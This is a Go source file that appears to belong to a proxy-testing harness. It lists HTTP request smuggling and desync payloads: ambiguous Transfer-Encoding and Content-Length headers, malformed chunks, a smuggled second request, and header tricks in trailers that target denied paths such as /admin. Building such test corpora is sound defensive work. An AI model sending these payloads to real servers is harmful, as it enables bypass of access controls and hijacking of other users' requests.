package attacks

import "strings"

// framings are further bodies whose end is not the same to all, and what stands behind them.
func framings() []Attack {
	chunked := func(what, body string) Attack {
		a := post(what, "Transfer-Encoding: chunked\r\nConnection: close\r\n", body)
		a.Behind = true
		return a
	}
	return []Attack{
		post("a space before the colon of an encoding", "Transfer-Encoding : chunked\r\nContent-Length: 4\r\n", "abcd"+second),
		post("an encoding on a folded line", "Transfer-Encoding:\r\n chunked\r\nContent-Length: 4\r\nConnection: close\r\n", "0\r\n\r\n"+second),
		post("an encoding with a form feed", "Transfer-Encoding: \x0bchunked\r\n", "0\r\n\r\n"+second),
		post("a list of encodings", "Transfer-Encoding: gzip, chunked\r\n", "0\r\n\r\n"+second),
		post("chunked, and then something", "Transfer-Encoding: chunked, identity\r\n", "0\r\n\r\n"+second),
		post("an encoding of nothing", "Transfer-Encoding:\r\nContent-Length: 4\r\n", "abcd"+second),
		post("an encoding in capitals", "Transfer-Encoding: CHUNKED\r\nConnection: close\r\n", "0\r\n\r\n"+second),
		post("an encoding with an underscore", "Transfer_Encoding: chunked\r\nContent-Length: 0\r\nConnection: close\r\n", second),
		post("a length in hexadecimal", "Content-Length: 0x4\r\n", "abcd"+second),
		post("a length below zero", "Content-Length: -1\r\n", second),
		post("a length of nothing", "Content-Length:\r\n", second),
		post("a length with a space within", "Content-Length: 4 4\r\n", "abcd"+second),
		post("a length beyond all", "Content-Length: 99999999999999999999\r\n", second),
		post("two lengths that are the same", "Content-Length: 4\r\nContent-Length: 4\r\nConnection: close\r\n", "abcd"+second),
		chunked("a chunk of a size in 0x", "0x4\r\nabcd\r\n0\r\n\r\n"+second),
		chunked("a chunk of a size below zero", "-1\r\n\r\n0\r\n\r\n"+second),
		chunked("a chunk of a size beyond all", "fffffffffffffffff\r\nabcd\r\n0\r\n\r\n"+second),
		chunked("chunks with lines of one byte", "4\nabcd\n0\n\n"+second),
		chunked("a chunk with an extension", "4;x=\"\n\"\r\nabcd\r\n0\r\n\r\n"+second),
		chunked("a chunk with an extension of 1 MB", "4;"+strings.Repeat("x", 1<<20)+"\r\nabcd\r\n0\r\n\r\n"+second),
		chunked("chunks that do not end", "4\r\nabcdGET /smuggled HTTP/1.1\r\nHost: shop\r\n\r\n"),
		{ID: "T8", What: "chunks by HTTP/1.0", On: h1, Want: Differs, Sees: "/ok", Raw: "POST /ok HTTP/1.0\r\nHost: shop\r\nTransfer-Encoding: chunked\r\nConnection: keep-alive\r\n\r\n0\r\n\r\n" + second},
		{ID: "T8", What: "a body of GET", On: h1, Want: Differs, Sees: "/ok", Raw: "GET /ok HTTP/1.1\r\nHost: shop\r\nContent-Length: 38\r\nConnection: close\r\n\r\n" + second},
		{ID: "T10", What: "the preface of HTTP/2 behind a request", On: h1, Raw: "GET /admin HTTP/1.1\r\nHost: shop\r\n\r\nPRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"},
		{ID: "T10", What: "an upgrade to TLS", On: h1, Raw: "GET /admin HTTP/1.1\r\nHost: shop\r\nConnection: Upgrade\r\nUpgrade: TLS/1.2\r\n\r\n"},
		{ID: "T10", What: "a line of the PROXY protocol before it", On: h1, Raw: "PROXY TCP4 203.0.113.9 10.0.0.1 1 80\r\nGET /local HTTP/1.1\r\nHost: shop\r\n\r\n"},
		{ID: "T11", What: "100-continue of the denied path", On: h1, Raw: "POST /admin HTTP/1.1\r\nHost: shop\r\nExpect: 100-continue\r\nContent-Length: 38\r\n\r\n" + second},
	}
}

// trailers are headers that come behind the body. gRPC's callers have none: its server ends the connection, which the answer may come before.
func trailers() []Attack {
	behind := func(what string, want Want, path string, lines ...[2]string) Attack {
		return Attack{ID: "B17", What: what, On: h2, Want: want, Path: path, Method: "POST", Trailer: lines}
	}
	return []Attack{
		behind("the denied role in trailers of HTTP/2 is no header", Differs, "", [2]string{"x-role", "admin"}),
		behind("ALLOW: the team in trailers of HTTP/2", Blocked, "/team/plan", [2]string{"x-team", "blue"}),
		{ID: "B17", What: "another host in trailers of chunks", On: h1, Raw: "POST /ok HTTP/1.1\r\nHost: secret.com\r\nTrailer: Host\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n0\r\nHost: shop\r\n\r\n"},
		{ID: "B17", What: "ALLOW: the team in trailers that are not announced", On: h1, Raw: "POST /team/plan HTTP/1.1\r\nHost: shop\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n0\r\nx-team: blue\r\n\r\n"},
		{ID: "B17", What: "ALLOW: Trailer announces the team", On: h1, Raw: "POST /team/plan HTTP/1.1\r\nHost: shop\r\nTrailer: x-team\r\nx-team: red\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n0\r\nx-team: blue\r\n\r\n"},
	}
}
